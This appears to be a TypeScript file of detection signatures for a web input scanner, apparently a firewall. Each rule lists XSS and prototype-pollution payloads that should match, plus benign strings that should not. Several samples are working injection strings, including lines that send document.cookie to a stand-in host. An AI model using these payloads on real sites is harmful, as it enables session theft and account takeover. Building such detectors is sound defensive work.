import type { SignEntry } from '../sign-entry.ts';

export const javascriptSigns = {
  'javascript-string-breakout': {
    means: 'a quote or bracket that ends a string, call or block of a script, with code behind it',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        "';alert(1)//",
        '"-prompt(1)-"',
        "x'),eval(name)//",
        '});fetch("//h.test/"+document.cookie)//',
      ],
      other: ["it's; alert(1)", "print('a'); alert('b')", '\'-"8 track" player', '"a" + "b"'],
    },
  },
  'javascript-url': {
    means: 'an address that is code',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        'javascript:alert(1)',
        ' java\tscript:run()',
        'feed:javascript:eval(name)',
        'vbscript:MsgBox 1',
      ],
      other: [
        'javascript:;',
        'javascript:void(0)',
        'JavaScript: the good parts',
        'https://a.test/javascript:alert(1)',
      ],
    },
  },
  'javascript-dialog': {
    means: 'a dialog or the printing of the page',
    severity: 'error',
    paranoia: 1,
    samples: {
      matching: [
        "'-alert(1)-'",
        '<script>confirm(1)</script>',
        '<svg onload=prompt(1)>',
        'window.alert(1)',
      ],
      other: ['1alert(1)', 'alert', 'an alert for you', '<b title="alert">'],
    },
  },
  'javascript-evaluation': {
    means: 'code that runs a text or loads other code',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '";eval(name)//',
        '<svg onload=setTimeout("run()")>',
        "'-import('//h.test/x.js')-'",
      ],
      other: ['evaluation', 'medieval', 'an import from France', 'setTimeout'],
    },
  },
  'javascript-computed-name': {
    means: 'access to a sensitive function or member under a computed or escaped name',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        "window['al'+'ert'](1)",
        'top[/al/.source+/ert/.source](1)',
        "self[/**/'document'/**/]['cookie']",
        '<img src=x onerror=\\u0061lert(1)>',
        'parent[8680439..toString(30)](1)',
      ],
      other: ['window.alert(1)', "items['name']", 'top[0]', 'documents[2]'],
    },
  },
  'javascript-constructor-chain': {
    means: 'a way over constructors to Function or to a prototype',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        "[].map.constructor('alert(1)')()",
        "''.constructor.constructor('run()')()",
        "x=''['constructor'].prototype",
      ],
      other: ['the constructor of a class', 'this.constructor.name', 'under construction'],
    },
  },
  'javascript-coercion': {
    means: 'code built from operations on empty lists and objects',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]',
        '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]',
      ],
      other: ['[[],[]]', 'a[]=1&b[]=2', '![alt](image.png)', '[+] more'],
    },
  },
  'javascript-decoded-text': {
    means: 'code that decodes a text from base64 or character codes',
    severity: 'error',
    paranoia: 1,
    samples: {
      matching: ["';eval(atob('cnVuKCk='))//", '<script>eval(String.fromCharCode(97,98))</script>'],
      other: ['atob', 'a function fromCharCode', 'how does unescape work'],
    },
  },
  'javascript-session-data': {
    means: 'code that reads cookies, storage or the origin of the page',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        "fetch('//h.test/?'+document.cookie)",
        "'-alert(document.domain)-'",
        'x(localStorage.token)',
      ],
      other: ['document cookies', 'a documented domain', 'local storage'],
    },
  },
  'javascript-request': {
    means: 'code that sends a request',
    severity: 'warning',
    paranoia: 1,
    samples: {
      matching: ["'-fetch('//h.test')-'", '<script>navigator.sendBeacon("//h.test",x)</script>'],
      other: ['fetch the ball', 'prefetch(1)', 'a beacon'],
    },
  },
  'javascript-page-change': {
    means: 'code that goes to another address or writes markup into the page',
    severity: 'error',
    paranoia: 1,
    samples: {
      matching: [
        "';location='//h.test'//",
        '<img src=x onerror=document.write(name)>',
        "';document.body.innerHTML=name//",
        "location='javascript:run()'",
      ],
      other: ['location: Paris', 'locations=3', 'href=/a', 'writer'],
    },
  },
  'javascript-unusual-call': {
    means: 'a call of a sensitive function without parentheses, or by passing it on',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: ['alert`1`', 'onerror=alert;throw 1', '<svg onload=[1].find(alert)>'],
      other: ['`alert`', 'red alert', 'alert = true'],
    },
  },
  'javascript-prototype-pollution': {
    means: 'the name of a field that reaches the prototype of all objects',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        { method: 'GET', target: '/?__proto__[admin]=1', headers: {}, body: '' },
        { method: 'GET', target: '/?a[constructor][prototype][x]=1', headers: {}, body: '' },
        {
          method: 'POST',
          target: '/',
          headers: { 'content-type': 'application/json' },
          body: '{"constructor":{"prototype":{"x":1}}}',
        },
      ],
      other: [
        'a prototype',
        '__proto__',
        { method: 'GET', target: '/?prototype=1&constructor=2', headers: {}, body: '' },
      ],
    },
  },
} as const satisfies Record<string, SignEntry>;
